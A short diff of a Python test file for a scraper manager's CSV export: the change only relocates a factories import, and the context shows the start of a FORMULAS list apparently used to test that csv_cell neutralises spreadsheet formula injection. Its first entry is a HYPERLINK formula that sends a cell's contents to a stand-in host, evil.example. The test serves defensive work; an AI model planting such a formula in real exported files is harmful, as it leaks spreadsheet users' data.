@@ -8,10 +8,11 @@ import json
 
 import httpx
 import pytest
-from factories import make_client, scraper_body
 from scraper_manager.runs.export import csv_cell
 from sqlalchemy import text
 from sqlalchemy.ext.asyncio import AsyncEngine
+
+from tests.factories import make_client, scraper_body
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
